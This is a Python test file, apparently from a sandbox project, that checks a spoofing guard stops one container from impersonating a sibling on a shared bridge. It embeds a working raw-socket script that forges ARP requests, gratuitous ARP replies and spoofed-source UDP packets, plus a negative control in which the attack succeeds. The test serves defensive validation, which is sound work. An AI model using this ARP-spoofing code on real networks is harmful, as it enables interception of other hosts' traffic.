"""GYM-10: a root agent cannot send as a sibling sandbox on a shared bridge (Docker's ``hg-public0``, rootful podman's
``hgp-public0``, the local backend's ``hg-local0``).

Two public sandboxes A and B on one bridge. A (root, raw sockets of the base image's python3) sends ARP requests to
the gateway and gratuitous ARP replies that claim B's address with A's MAC (which would move the host's neighbour
entry for B to A, so B's egress replies reach A), and UDP packets with B's source address. The host side captures
the bridge with a raw socket (frames the bridge passes up to the host): with the spoofing guard, no forged frame
arrives and the host's neighbour entry of B stays B's MAC (permanent). The negative control, in the guard's own
table only: A's port is unbound and B's neighbour entry deleted, and the same attack then does arrive and moves the
entry to A's MAC, so the first half can fail.
"""

from __future__ import annotations

import subprocess

import pytest

from harbor_gym.config import EnvConfig
from harbor_gym.sandbox import _spoofguard
from harbor_gym.sandbox.base import SandboxSettings, SandboxSpec

from .helpers import BASE_IMAGE, LABEL
from .netprobe import Seen, capture, ipv4_of, mac_of, neighbour

# argv: iface, attacker MAC, victim IP, gateway IP, gateway MAC. Sends for 2 s (past the kernel's ARP locktime).
_ATTACK = r"""
import socket, struct, sys, time
iface, mac, victim, gw, gw_mac = sys.argv[1:6]
m, gm = bytes.fromhex(mac.replace(":", "")), bytes.fromhex(gw_mac.replace(":", ""))
v, g = socket.inet_aton(victim), socket.inet_aton(gw)
def arp(dst, op, tha, tpa):
    return dst + m + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, op) + m + v + tha + tpa
def csum(h):
    s = sum(struct.unpack("!10H", h)); s = (s >> 16) + (s & 0xFFFF); s += s >> 16
    return ~s & 0xFFFF
payload = b"hg-forged-source"
udp = struct.pack("!HHHH", 40000, 9, 8 + len(payload), 0) + payload
hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, v, g)
hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
frames = [arp(b"\xff" * 6, 1, b"\x00" * 6, g),          # "who has the gateway? tell <victim> at <me>"
          arp(b"\xff" * 6, 2, b"\xff" * 6, v),          # gratuitous reply: "<victim> is at <me>"
          gm + m + b"\x08\x00" + hdr + udp]             # IPv4 from the victim's address
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
end = time.time() + 2.0
sent = 0
while time.time() < end:
    for f in frames:
        s.send(f)
        sent += 1
    time.sleep(0.1)
print("SENT", sent)
"""


def _attack(sb, a: _spoofguard.Binding, b: _spoofguard.Binding) -> Seen:
    inner = "eth0"
    argv = ["python3", "-c", _ATTACK, inner, a.mac, b.ipv4, ipv4_of(a.bridge), mac_of(a.bridge)]
    with capture(a.bridge, a.mac, src=b.ipv4) as seen:
        if callable(sb):  # the attacker runs in A's network namespace from the host (see the podman test)
            res = sb(argv)
            assert res.returncode == 0 and "SENT" in res.stdout, res
        else:
            res = sb.exec(argv, timeout=60, user="root")
            assert res.exit_code == 0 and "SENT" in res.stdout, res  # the attack itself ran (raw sockets work)
    return seen


def _check_guard_then_negative_control(sb_a, a: _spoofguard.Binding, b: _spoofguard.Binding) -> None:
    assert a.bridge == b.bridge and a.ipv4 != b.ipv4
    assert neighbour(b.ipv4, b.bridge) == (b.mac, ["PERMANENT"])
    seen = _attack(sb_a, a, b)
    assert (seen.arp, seen.ipv4) == (0, 0), seen  # nothing forged reached the host side
    assert neighbour(b.ipv4, b.bridge) == (b.mac, ["PERMANENT"])  # B's entry is still B's
    # negative control: A's port unbound and B's entry no longer permanent: the same attack arrives and hijacks
    _spoofguard.unbind(a)
    subprocess.run(["ip", "neigh", "del", b.ipv4, "dev", b.bridge], check=False)
    try:
        seen = _attack(sb_a, a, b)
        assert seen.arp > 0 and seen.ipv4 > 0, seen
        assert neighbour(b.ipv4, b.bridge)[0] == a.mac  # B's return traffic would now go to A
    finally:
        subprocess.run(["ip", "neigh", "del", b.ipv4, "dev", b.bridge], check=False)


@pytest.mark.parametrize("backend, bridge", [pytest.param("docker", "hg-public0", marks=pytest.mark.docker),
                                             pytest.param("podman", "hgp-public0", marks=pytest.mark.podman)])
def test_gym_10_an_engine_sandbox_cannot_send_as_its_sibling(backend, bridge):
    # SPEC: GYM-10 — forged ARP and IPv4 sources from A claiming B's address never reach the host, on Docker's
    # public bridge and on rootful podman's (whose host veths netavark names veth0, veth1, ...: the guard keys them
    # by index, so a reused name never inherits a binding)
    from harbor_gym import sandbox as sandbox_pkg

    settings = SandboxSettings.from_config(EnvConfig.coerce({"backend": backend, "labels": dict([LABEL])}))
    spec = SandboxSpec(image=BASE_IMAGE, network=True, name_hint="spoof")
    with sandbox_pkg.open(spec, backend=backend, settings=settings) as sb_a, \
            sandbox_pkg.open(spec, backend=backend, settings=settings) as sb_b:
        (a,), (b,) = sb_a._bindings, sb_b._bindings
        assert a.bridge == bridge and a.ifindex != b.ifindex
        # podman gives containers no CAP_NET_RAW, so a root agent there cannot even open a raw socket; the attack
        # runs as host root in A's network namespace instead (a stronger attacker, the same frames from A's eth0)
        _check_guard_then_negative_control(_in_netns_of(sb_a) if backend == "podman" else sb_a, a, b)


def _in_netns_of(sb):
    """A runner of the attack as host root in ``sb``'s network namespace (argv's python3 is the host's)."""
    pid = sb.client.api.inspect_container(sb.container_id)["State"]["Pid"]

    def run(argv):
        return subprocess.run(["nsenter", f"--net=/proc/{pid}/ns/net", "--", "/usr/bin/python3", *argv[1:]],
                              capture_output=True, text=True, timeout=60)

    return run


@pytest.mark.bwrap
def test_gym_10_a_local_sandbox_cannot_send_as_its_sibling():
    # SPEC: GYM-10 — the same attack on the local backend's bridge (hg-local0)
    from harbor_gym.sandbox.local import LocalSandbox, _net

    if _net.filter_unavailable_reason():
        pytest.skip(f"no host filter here: {_net.filter_unavailable_reason()}")
    settings = SandboxSettings.from_config(EnvConfig(labels=dict([LABEL])))
    spec = SandboxSpec(image=BASE_IMAGE, network=True, name_hint="spoof")
    with LocalSandbox(spec, settings) as sb_a, LocalSandbox(spec, settings) as sb_b:
        a, b = _net._bindings[sb_a._address], _net._bindings[sb_b._address]
        assert a.bridge == "hg-local0"
        _check_guard_then_negative_control(sb_a, a, b)
